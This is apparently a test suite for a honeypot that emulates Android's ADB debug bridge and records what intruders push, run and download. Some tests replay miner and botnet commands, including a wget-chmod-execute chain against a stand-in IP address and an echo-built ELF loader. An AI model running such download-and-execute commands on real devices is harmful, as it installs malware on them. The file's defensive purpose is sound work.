"""The debug bridge: frames, streams, the file service, and shells of every kind."""

from __future__ import annotations

import struct

import pytest

from eudaemon.events.catalogue import CommandEntered
from eudaemon.protocols._base import Claim, HalfClosed
from eudaemon.protocols.adb import Adb
from eudaemon.protocols.adb.messages import PAYLOAD_BYTES_MAX
from eudaemon.protocols.adb.room import OPENED_MAX, STREAMS_MAX, UNSENT_BYTES_MAX
from eudaemon.protocols.adb.sync import PATH_BYTES_MAX
from eudaemon.world.android import RELEASES
from eudaemon.world.outside import HEAD_BYTES_MAX
from eudaemon.world.shell.limits import TYPED_BYTES_MAX
from payload.servers import SIZES, content
from protocols.adb_client import CONNECT, Client, frame, request, sent_file

OKAY = b"OKAY\0\0\0\0"
VERSIONS = [release.version for release in RELEASES]


def lines(client: Client) -> list[str]:
    return [fact.line for fact in client.table.facts if isinstance(fact, CommandEntered)]


def kept(client: Client) -> list[tuple[str, str, bytes, bool]]:
    return [(keep.origin, keep.name, keep.data, keep.partial) for keep in client.table.kept]


@pytest.mark.parametrize("version", VERSIONS)
def test_it_says_what_it_is(version: str) -> None:
    client = Client(version).connect()
    assert client.connected.startswith(b"device::ro.product.name=")
    release = next(release for release in RELEASES if release.version == version)
    assert (b"features=" + release.features.encode() in client.connected) == bool(release.features)
    protocol, payload_bytes_max = struct.unpack_from("<II", client.table.sent, 4)
    assert (protocol, payload_bytes_max) == (release.protocol, release.payload_bytes_max)
    assert lines(client) == ["connect host::features=shell_v2,cmd,stat_v2"]


def test_an_old_client_gets_what_it_understands() -> None:
    client = Client("9")
    client.say(frame(b"CNXN", 0x01000000, 4096, b"host::\0"))
    assert struct.unpack_from("<II", client.table.sent, 4) == (0x01000000, 4096)
    assert client.run(b"shell:seq 2000") == b"".join(b"%d\r\n" % n for n in range(1, 2001))


@pytest.mark.parametrize("size", SIZES)
def test_a_pushed_file_is_kept_byte_for_byte(size: int) -> None:
    client = Client().connect()
    assert client.push(b"/data/local/tmp/f", content(size)) == OKAY
    assert kept(client) == [("upload", "/data/local/tmp/f", content(size), False)]
    assert lines(client)[1:] == ["push /data/local/tmp/f"]
    client.table.end()
    assert len(client.table.kept) == 1, "once"


@pytest.mark.parametrize("step", [1, 3, 8, 9, 4095, 4097, 65_537])
def test_frames_may_cut_the_requests_anywhere(step: int) -> None:
    data = content(4097 if step < 10 else 65_536)
    client = Client().connect()
    assert client.push(b"/data/local/tmp/f", data, step) == OKAY
    assert kept(client) == [("upload", "/data/local/tmp/f", data, False)]


def test_bytes_may_come_one_by_one() -> None:
    client = Client(split=1).connect()
    assert client.push(b"/data/local/tmp/f", content(4097)) == OKAY
    assert client.run(b"shell:cat /data/local/tmp/f | md5sum; id -u").endswith(b"  -\r\n0\r\n")
    assert kept(client) == [("upload", "/data/local/tmp/f", content(4097), False)]


def test_many_files_of_ten_megabytes() -> None:
    client = Client(bytes_max=24 << 20).connect()
    for number in range(4):
        assert client.push(b"/data/local/tmp/%d" % number, content(10_000_000), 65_536) == OKAY
    assert [len(keep.data) for keep in client.table.kept] == [10_000_000] * 4
    assert client.table.room.visit.purse.bytes_taken < 5 * HEAD_BYTES_MAX


def test_what_is_cut_off_is_kept_as_a_part() -> None:
    client = Client().connect()
    stream = client.open(b"sync:")
    client.write(stream, sent_file(b"/data/local/tmp/f", content(65_536))[:40_000])
    client.table.end()
    whole = sent_file(b"/data/local/tmp/f", content(65_536))
    start = whole.index(content(65_536))
    assert kept(client) == [("upload", "/data/local/tmp/f", content(65_536)[: 40_000 - start], True)]


@pytest.mark.parametrize(
    ("path", "why"),
    [
        (b"/system/bin/x", b"couldn't create file: Read-only file system"),
        (b"/nowhere/x", b"couldn't create file: No such file or directory"),
        (b"/data", b"couldn't create file: Is a directory"),
        (b"/dev/null", b"couldn't create file: Operation not permitted"),
    ],
)
def test_what_the_box_does_not_take_is_kept_all_the_same(path: bytes, why: bytes) -> None:
    client = Client().connect()
    if path == b"/dev/null":
        assert client.push(path, b"\x7fELF") == OKAY
    else:
        assert client.push(path, b"\x7fELF") == request(b"FAIL", why)
    assert kept(client) == [("upload", path.decode(), b"\x7fELF", False)]


def test_a_file_is_overwritten_and_both_are_kept() -> None:
    client = Client().connect()
    client.push(b"/data/local/tmp/f", b"first" * 100)
    client.push(b"/data/local/tmp/f", b"second" * 100)
    assert client.run(b"shell:cat /data/local/tmp/f") == b"second" * 100
    client.table.end()
    assert [keep.data for keep in client.table.kept] == [b"first" * 100, b"second" * 100]


def test_stat_list_and_pull() -> None:
    client = Client().connect()
    client.push(b"/data/local/tmp/f", content(100_000))
    stream = client.open(b"sync:")
    client.write(stream, request(b"STAT", b"/data/local/tmp/f"))
    assert struct.unpack("<4sIII", client.came[stream])[:3] == (b"STAT", 0o100755, 100_000)
    client.came[stream] = b""
    client.write(stream, request(b"STAT", b"/nothing"))
    assert client.came[stream] == b"STAT" + bytes(12)
    client.came[stream] = b""
    client.write(stream, request(b"STA2", b"/data/local/tmp/f") + request(b"LST2", b"/nothing"))
    assert len(client.came[stream]) == 2 * 72
    assert client.came[stream][72:80] == b"LST2\x02\0\0\0"
    client.came[stream] = b""
    client.write(stream, request(b"LIST", b"/data/local/tmp"))
    assert client.came[stream].endswith(b"\x01\0\0\0f" + b"DONE" + bytes(16))
    client.came[stream] = b""
    client.write(stream, request(b"RECV", b"/data/local/tmp/f"))
    data = content(100_000)
    assert client.came[stream] == request(b"DATA", data[:65536]) + request(b"DATA", data[65536:]) + b"DONE" + bytes(4)
    client.came[stream] = b""
    client.write(stream, request(b"RECV", b"/nothing") + request(b"QUIT", b""))
    assert client.came[stream] == request(b"FAIL", b"open failed: No such file or directory")
    assert stream in client.over
    assert lines(client)[-2:] == ["pull /data/local/tmp/f", "pull /nothing"]


def test_a_link_is_made() -> None:
    client = Client().connect()
    stream = client.open(b"sync:")
    client.write(stream, request(b"SEND", b"/data/l,41471") + request(b"DATA", b"/system") + b"DONE" + bytes(4))
    assert client.came[stream] == OKAY
    assert b"bin" in client.run(b"shell:ls /data/l")


def test_a_miner_of_the_day() -> None:
    """Commands that ADB.Miner and Trinity sent, one stream each: all see the same files."""
    client = Client().connect()
    assert client.push(b"/data/local/tmp/ufo.apk", b"PK\x03\x04" + content(5000)) == OKAY
    assert client.run(b"shell:pm path com.ufo.miner") == b""
    assert client.run(b"shell:pm install /data/local/tmp/ufo.apk") == b"\tpkg: /data/local/tmp/ufo.apk\r\nSuccess\r\n"
    started = client.run(b"shell:am start -n com.ufo.miner/com.example.test.MainActivity")
    assert started == b"Starting: Intent { cmp=com.ufo.miner/com.example.test.MainActivity }\r\n"
    client.run(b"shell:cd /data/local/tmp; wget http://198.51.100.7/trinity; busybox chmod 755 trinity; ./trinity")
    assert [wish.download.url for wish in client.table.wishes] == ["http://198.51.100.7/trinity"]
    client.table.answer("ok", b"#!/system/bin/sh\nwget http://198.51.100.7/nohup\n")
    client._hear()
    assert [wish.download.url for wish in client.table.wishes] == ["http://198.51.100.7/nohup"]
    assert client.run(b"shell:ls /data/local/tmp") == b"trinity  ufo.apk\r\n"


def test_a_loader_that_echoes_leaves_one_file() -> None:
    client = Client().connect()
    for number in range(20):
        client.run(b"shell:echo -ne '\\x7fELF\\x%02x%s' >> /data/local/tmp/e" % (number, b"." * 80))
    client.run(b"shell:chmod 755 /data/local/tmp/e")
    client.table.end()
    assert [(keep.name, len(keep.data)) for keep in client.table.kept] == [("/data/local/tmp/e", 20 * 85)]


@pytest.mark.parametrize("version", ["7.1.2", "9"])
def test_the_shell_with_packets(version: str) -> None:
    client = Client(version).connect()
    answer = client.run(b"shell,v2,raw:echo a; echo b >&2; exit 3")
    assert answer == b"\x01\x04\0\0\0a\nb\n\x03\x01\0\0\0\x03"
    stream = client.open(b"shell,v2,raw:")
    client.write(stream, b"\0\x08\0\0\0echo $((", 1)
    client.write(stream, b"\0\x05\0\0\x001+2))" + b"\0\x01\0\0\0\n\x04\0\0\0\0")
    assert client.came[stream] == b"\x01\x02\0\0\x003\n\x03\x01\0\0\0\0"
    assert stream in client.over


def test_somebody_at_the_terminal() -> None:
    client = Client("6.0.1").connect()
    stream = client.open(b"shell:")
    prompt = client.came[stream]
    assert prompt.endswith(b":/ # ")
    client.write(stream, b"cd /data/local/tmp\r")
    client.write(stream, b"mistake\x15pwd\r")
    assert b"\r\n/data/local/tmp\r\n" in client.came[stream]
    assert client.came[stream].endswith(prompt.replace(b":/ #", b":/data/local/tmp #"))
    client.write(stream, b"sleep 2; echo over\r")
    client.write(stream, b"exit\r")
    assert b"\r\nover" not in client.came[stream]
    client.table.wait(3)
    client._hear()
    assert b"over\r\n" in client.came[stream]
    assert stream in client.over


@pytest.mark.parametrize("size", SIZES)
def test_what_a_command_reads_is_kept_byte_for_byte(size: int) -> None:
    client = Client(bytes_max=24 << 20).connect()
    stream = client.open(b"exec:cat > /data/local/tmp/x")
    client.write(stream, content(size))
    client.close(stream)
    client.table.end()
    assert kept(client) == [("upload", "/data/local/tmp/x", content(size), False)] * bool(size)


def test_standard_input_reaches_a_command() -> None:
    client = Client("9").connect()
    stream = client.open(b"exec:cat > /data/local/tmp/x")
    client.write(stream, content(4097))
    assert not client.table.kept
    client.close(stream)
    assert client.run(b"shell,raw:md5sum < /data/local/tmp/x; wc -c < /data/local/tmp/x").endswith(b"4097\n")
    apk = b"PK\x03\x04" + content(65_536)
    stream = client.open(b"exec:cmd package 'install' '-r' '-S' '%d'" % len(apk))
    client.write(stream, apk)
    assert client.came[stream] == b"Success\n"
    client.table.end()
    assert [(keep.name, keep.data) for keep in client.table.kept] == [
        ("base.apk", apk),
        ("/data/local/tmp/x", content(4097)),
    ]


def test_other_services() -> None:
    client = Client().connect()
    assert client.run(b"root:") == b"adbd is already running as root\n"
    assert client.run(b"remount:") == b"remount succeeded\n"
    for refused in (b"tcp:198.51.100.9:80", b"local:x", b"jdwp:1", b"", b"shell", b"exec:"):
        stream = client.open(refused)
        assert stream in client.refused, refused
    assert lines(client)[1:4] == ["root:", "remount:", "tcp:198.51.100.9:80"]
    assert not client.table.wishes, "nobody is reached through it"


def test_nothing_is_sent_before_the_last_was_taken() -> None:
    client = Client().connect()
    client.opened += 1
    client.table.say(frame(b"OPEN", 1, 0, b"shell:seq 3000\0"))
    writes = client.table.sent.count(b"WRTE")
    assert writes == 1
    client.table.say(frame(b"OKAY", 1, 1))
    client.table.say(frame(b"OKAY", 1, 1))
    assert client.table.sent.count(b"WRTE") == 3
    client.table.say(frame(b"OKAY", 9, 1))
    assert client.table.sent.count(b"WRTE") == 3, "an OKAY for another stream moves nothing"


def test_what_is_no_message_ends_it() -> None:
    client = Client()
    client.say(b"GET / HTTP/1.0\r\n\r\n".ljust(24))
    assert client.table.fault == "no ADB message"
    client = Client().connect()
    client.say(frame(b"JUNK", 1, 2, b"x") + frame(b"AUTH", 3, 0, b"key"))
    assert not client.table.fault
    stream = client.open(b"sync:")
    client.write(stream, b"JUNK\1\0\0\0x")
    assert client.table.fault == "no request of the file service: JUNK"


def test_streams_before_the_connection_are_not_opened() -> None:
    client = Client()
    client.say(frame(b"OPEN", 1, 0, b"shell:id\0"))
    assert client.table.sent == b""


def test_limits() -> None:
    for past in (0, 1):
        client = Client().connect()
        client.say(struct.pack("<4sIIIII", b"WRTE", 1, 1, PAYLOAD_BYTES_MAX + past, 0, 0x45545257 ^ 0xFFFFFFFF))
        assert bool(client.table.fault) == bool(past)
        client = Client().connect()
        for _ in range(STREAMS_MAX + past):
            client.open(b"sync:")
        assert bool(client.table.fault) == bool(past)
        client = Client().connect()
        for _ in range(OPENED_MAX + past):
            client.say(frame(b"OPEN", 1, 0, b"tcp:1\0"))
        assert bool(client.table.fault) == bool(past)
        client = Client().connect()
        stream = client.open(b"sync:")
        client.write(stream, request(b"STAT", b"/".ljust(PATH_BYTES_MAX + past, b"a")))
        assert bool(client.table.fault) == bool(past)
        client = Client(bytes_max=64 << 20).connect()
        stream = client.open(b"exec:wc -c")
        client.write(stream, bytes(TYPED_BYTES_MAX + past), 65536)
        assert bool(client.table.fault) == bool(past)


def test_a_peer_that_does_not_take_what_it_asks_for() -> None:
    client = Client().connect()
    client.opened += 1
    client.table.say(frame(b"OPEN", 1, 0, b"sync:\0"))
    client.table.say(frame(b"WRTE", 1, 1, sent_file(b"/data/f", bytes(HEAD_BYTES_MAX))))
    for _ in range(UNSENT_BYTES_MAX // HEAD_BYTES_MAX + 1):
        client.table.say(frame(b"WRTE", 1, 1, request(b"RECV", b"/data/f")))
    assert client.table.fault.startswith("does not read")


def test_a_second_connect_closes_the_streams() -> None:
    client = Client().connect()
    stream = client.open(b"sync:")
    client.write(stream, sent_file(b"/data/f", b"x" * 999)[:500])
    client.say(CONNECT)
    assert stream in client.over
    assert [keep.partial for keep in client.table.kept] == [True]


def test_the_line_stays_open_for_a_download() -> None:
    client = Client().connect()
    client.open(b"shell:wget http://198.51.100.7/x")
    client.table.tell(HalfClosed(client.table.at_s))
    assert not client.table.over
    client.table.answer("ok", b"\x7fELF")
    assert client.table.over


def test_whose_conversation_it_is() -> None:
    assert Adb.claim(b"C") is Claim.UNSURE
    assert Adb.claim(CONNECT) is Claim.YES
    assert Adb.claim(b"CONNECT") is Claim.NO
